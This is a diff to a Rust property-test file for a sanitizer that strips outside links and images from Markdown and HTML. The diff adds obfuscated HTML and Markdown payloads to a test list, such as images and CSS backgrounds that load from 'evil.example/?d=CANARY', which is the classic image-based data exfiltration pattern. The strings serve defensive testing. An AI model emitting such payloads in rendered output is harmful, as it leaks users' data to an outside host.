@@ -1,5 +1,5 @@
 use proptest::{collection::vec, prelude::*, sample::Index};
-use pulldown_cmark::{Event, Options, Parser, Tag, TextMergeStream};
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeStream};
 use url::Url;
 
 use super::*;
@@ -34,17 +34,20 @@ fn is_outside(destination: &str) -> bool {
     })
 }
 
-/// The addresses in attributes of HTML, as a browser reads them.
-fn attributes(html: &str) -> Vec<String> {
-    let tags = html5gum::Tokenizer::new(html).flatten();
-    let tags = tags.filter_map(|token| if let html5gum::Token::StartTag(tag) = token { Some(tag) } else { None });
-    let values = tags.flat_map(|tag| tag.attributes.into_values());
-    // A style has its addresses in brackets.
-    values
-        .flat_map(|value| -> Vec<String> {
-            String::from_utf8_lossy(&value).split(['(', ')']).map(str::to_owned).collect()
-        })
-        .collect()
+/// The addresses in attributes of HTML, as a browser reads them: those that wait for a click, and those that load.
+fn attributes(html: &str) -> (Vec<String>, Vec<String>) {
+    let (mut links, mut loads) = (Vec::new(), Vec::new());
+    for token in html5gum::Tokenizer::new(html).flatten() {
+        let html5gum::Token::StartTag(tag) = token else { continue };
+        for (name, value) in &tag.attributes {
+            let waits = **tag.name == *b"a" && **name == *b"href";
+            // A style has its addresses in brackets, and its escapes.
+            let value = String::from_utf8_lossy(value).replace("\\2f ", "/").replace("\\2f", "/");
+            let found = if waits { &mut links } else { &mut loads };
+            found.extend(value.split(['(', ')']).map(str::to_owned));
+        }
+    }
+    (links, loads)
 }
 
 /// The addresses in a text that Markdown with its extensions makes links of, as programs do that look for them when
@@ -55,7 +58,7 @@ fn bare_addresses(text: &str) -> Vec<String> {
     let found = starts.into_iter().flat_map(|start| lower.match_indices(start).map(|(at, _)| at).collect::<Vec<_>>());
     let begins = |at: &usize| {
         let before = text[..*at].chars().next_back();
-        before.is_none_or(|char| !char.is_alphanumeric() && char != '/')
+        before.is_none_or(|char| !char.is_alphabetic() && char != '/')
     };
     let end = |char: char| char.is_whitespace() || char == '<';
     found
@@ -69,18 +72,23 @@ fn bare_addresses(text: &str) -> Vec<String> {
 /// What is live in a text: links and pictures that lead outside.
 fn live(text: &str) -> (Vec<String>, Vec<String>) {
     let (mut links, mut pictures) = (Vec::new(), Vec::new());
-    let mut html = String::new();
+    let (mut html, mut is_code) = (String::new(), false);
     let extensions = Options::all() - Options::ENABLE_SMART_PUNCTUATION;
     for event in TextMergeStream::new(Parser::new_ext(text, extensions)) {
         match event {
             Event::Start(Tag::Link { dest_url, .. }) => links.push(dest_url.to_string()),
             Event::Start(Tag::Image { dest_url, .. }) => pictures.push(dest_url.to_string()),
             Event::Html(piece) | Event::InlineHtml(piece) => html.push_str(&piece),
-            Event::Text(text) => links.extend(bare_addresses(&text)),
+            // This parser joins the lines of code that a lone carriage return ends, where nothing is a link anyway.
+            Event::Start(Tag::CodeBlock(_)) => is_code = true,
+            Event::End(TagEnd::CodeBlock) => is_code = false,
+            Event::Text(text) if !is_code => links.extend(bare_addresses(&text)),
             _ => {}
         }
     }
-    links.extend(attributes(&html));
+    let (waiting, loading) = attributes(&html);
+    links.extend(waiting);
+    pictures.extend(loading);
     let is_foreign = |address: &String| address.strip_suffix('/').unwrap_or(address) != OWN && is_outside(address);
     links.retain(is_foreign);
     pictures.retain(is_foreign);
@@ -115,6 +123,12 @@ const TRICKS: &[&str] = &[
     "<img alt=\">\" src=\"//evil.example\"> <a href=\"&#104;ttps://evil.example\">x</a>",
     "<img src=\"/\t/evil.example\"> <img src=\"ht\ntps:evil.example\"> <img src=\"\\/evil.example\">",
     "<div\nstyle=\"background:url(//evil.example)\">",
+    "<div style=\"background:url(\\2f\\2f evil.example/?d=CANARY)\">",
+    "<pre>\n<img src=\"\n\n//evil.example/?d=CANARY\">\n</pre>",
+    "<div>\n```\n\n<img src=//evil.example>",
+    "<!--\n\n```\n-->\n\n<img src=//evil.example>",
+    " ```\nx\n```\n\n![](//evil.example)",
+    "1https://evil.example/?d=CANARY",
     "https://ok.example/aCANARY https://ok.example.evil.example/ https://ok.example/a)@evil.example/",
     "![](<https://ok.example/a CANARY>) ![](https://ok.example/a>CANARY) https://ok.example/a>CANARY",
     "![r]\n\n[r]: https://ok.example/a)CANARY and \\<https://ok.example/a>[CANARY]",
@@ -144,6 +158,7 @@ fn without_passages_links_stay_and_pictures_do_not() {
     for text in [
         "[docs](https://docs.example/x), <https://docs.example> and https://docs.example, www.docs.example",
         "vec![1, 2](x); if a[i]: std::max(b) and <a href=\"https://docs.example\">docs</a>",
+        "A page:\n\n```html\n<img src=\"https://cdn.example/x.png\" style=\"a: b\" onclick=\"a && b\">\n![x](//y)\n```\n",
     ] {
         assert_eq!(told(false, text), text);
     }
@@ -246,6 +261,13 @@ const PIECES: &[&str] = &[
     "=",
     "`",
     "\n```\n",
+    "\n~~~\n",
+    "```",
+    "<pre>",
+    "<!--",
+    "-->",
+    "<div>",
+    " style=",
     "é",
     "*",
     "|",
